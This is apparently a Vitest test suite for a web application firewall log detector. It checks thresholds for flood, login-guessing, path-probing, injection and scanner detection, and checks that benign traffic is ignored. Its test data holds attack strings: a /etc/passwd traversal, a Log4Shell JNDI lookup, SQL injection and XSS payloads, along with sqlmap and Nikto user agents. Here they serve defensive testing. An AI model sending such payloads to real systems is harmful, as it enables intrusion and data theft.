import { describe, expect, test } from 'vitest';
import { type Hit, hit, hits, runWaf } from './run-waf.ts';

/** Which detectors speak about this many such requests, half a second apart. */
async function spoken(count: number, of: Hit, loop: unknown = {}): Promise<string[]> {
  const { lines } = await runWaf(hits(count, of, 500), { loop });
  return lines.flatMap((line) => line.detectors);
}

describe('each detector at its limit', () => {
  test.each<[string, Hit, number]>([
    ['flood', {}, 100],
    ['error-scan', { target: '/nothing', status: 404 }, 50],
    ['error-scan', { status: 401 }, 50],
    ['login-guess', { method: 'POST', target: '/login' }, 10],
    ['login-guess', { method: 'POST', target: '//x/../%6cogin/;a=b?next=/' }, 10],
    ['login-guess', { method: 'POST', target: '/wp-login.php' }, 10],
    ['probe-paths', { target: '/.env', status: 404 }, 2],
    ['probe-paths', { target: '/.git/config', status: 403 }, 2],
    ['probe-paths', { target: '/blog/wp-config.php.bak', status: 404 }, 2],
    ['exploit', { target: '/cgi-bin/.%2e/.%2e/.%2e/etc/passwd', status: 400 }, 0],
    ['exploit', { target: '/', agent: `${'${jndi:'}ldap://198.51.100.1/a}` }, 0],
    ['exploit', { method: 'CONNECT', target: 'foo.example:25', status: 400 }, 0],
    ['injection', { target: '/?id=1%27%20or%20%271%27%3D%271' }, 2],
    ['injection', { target: '/?q=1+UNION+ALL+SELECT+NULL,NULL--' }, 2],
    ['injection', { target: '/?q=%3Cscript%3Ealert(1)%3C/script%3E' }, 2],
    ['injection', { target: '/?f=../../../../var/www' }, 2],
    ['bad-agents', { agent: 'sqlmap/1.7.2#stable (https://sqlmap.org)' }, 1],
    ['bad-agents', { agent: 'Mozilla/5.00 (Nikto/2.1.5) (Evasions:None)' }, 1],
    ['empty-agent', { agent: '-' }, 30],
  ])('%s: %o is allowed %i times', async (detector, of, limit) => {
    expect(await spoken(limit, of)).not.toContain(detector);
    expect(await spoken(limit + 1, of)).toContain(detector);
  });

  test('a trap closes at the first step, where the policy sets one', async () => {
    const loop = { detectors: { honeypot: { paths: ['/trap/*'] } } };

    expect(await spoken(1, { target: '/trap/x' }, loop)).toEqual(['honeypot']);
    expect(await spoken(1, { target: '/trap/x' })).toEqual([]);
  });
});

describe('guessing at many users or at one', () => {
  const login = (user: string, of: Hit = {}) => hit({ method: 'POST', target: `/login?user=${user}`, ...of });
  const clientOf = (index: number) => `198.51.100.${index}`;
  const minute = 60_000;

  test('ten users of one client are allowed, the eleventh within the hour is not, however often each is tried', async () => {
    const names = (count: number) =>
      Array.from({ length: count }, (_, index) => login(`u${index % 11}`, { plusMs: index * 4 * minute }));

    expect((await runWaf(names(10))).lines).toEqual([]);
    expect((await runWaf(names(11))).lines).toMatchObject([{ detectors: ['many-users'] }]);
    const again = Array.from({ length: 40 }, (_, index) => login('bob', { plusMs: index * minute }));
    expect((await runWaf(again)).lines).toEqual([]);
  });

  test('one user tried by twenty clients is allowed, by more is told, and blocks nobody', async () => {
    const tries = (count: number) =>
      Array.from({ length: count }, (_, index) =>
        login(index % 2 ? 'bob' : '%42ob', { client: clientOf(index), plusMs: index * 1000 }),
      );

    expect((await runWaf(tries(20))).lines).toEqual([]);
    const { lines } = await runWaf(tries(21), { loop: { detectors: { 'one-user': { mode: 'fix' } } } });
    expect(lines).toHaveLength(21);
    expect(lines.every((one) => one.until === null && one.detectors.join() === 'one-user')).toBe(true);
  });

  test.each<[string, (index: number) => Hit]>([
    ['who gets in with a header', () => ({ target: '/', status: 200 })],
    ['another page that takes a user', () => ({ target: '/profile?user=x' })],
    ['twenty clients over hours', (index) => ({ plusMs: index * 60 * minute })],
  ])('%s is nobody', async (_, of) => {
    const lines = Array.from({ length: 30 }, (_, index) =>
      login('bob', { client: clientOf(index), ...of(index) }),
    );

    expect((await runWaf(lines)).lines).toEqual([]);
  });
});

describe('ordinary traffic is nobody', () => {
  test.each<Hit>([
    { target: '/search?q=select+a+union+of+sets' },
    { target: '/?text=Tom%20%26%20Jerry%27s%20and%20more' },
    { target: '/a/../b.css' },
    { target: '/login-help', method: 'GET' },
    { target: '/loginpage', method: 'POST' },
    { target: '/environment' },
    { target: '/.well-known/acme-challenge/x' },
    { target: '/.env', status: 200 },
    { agent: 'curl/8.5.0' },
    { agent: 'python-requests/2.31' },
    { agent: 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)' },
    { method: 'OPTIONS', target: '/login' },
    { target: '/?redirect=https://example.com/a?b=c;d' },
    { target: '/price?from=1&to=2&or=3' },
  ])('%o, twenty times', async (of) => {
    expect(await spoken(20, of)).toEqual([]);
  });
});

test('what a managed rule blocked is evidence of that, and not of an injection too', async () => {
  const line = (index: number) =>
    JSON.stringify({
      timestamp: Date.parse('2026-11-24T11:00:00Z') + index,
      webaclId: 'x',
      action: 'BLOCK',
      terminatingRuleType: 'MANAGED_RULE_GROUP',
      ruleGroupList: [{ terminatingRule: { ruleId: 'SQLi_QUERYARGUMENTS', action: 'BLOCK' } }],
      httpRequest: { clientIp: '203.0.113.5', uri: '/.env', args: 'q=1+union+select+2', httpMethod: 'GET' },
    });

  const { lines } = await runWaf(Array.from({ length: 21 }, (_, index) => line(index)));

  expect(lines).toMatchObject([{ client: '203.0.113.5', detectors: ['managed-block'], requests: 21 }]);
});
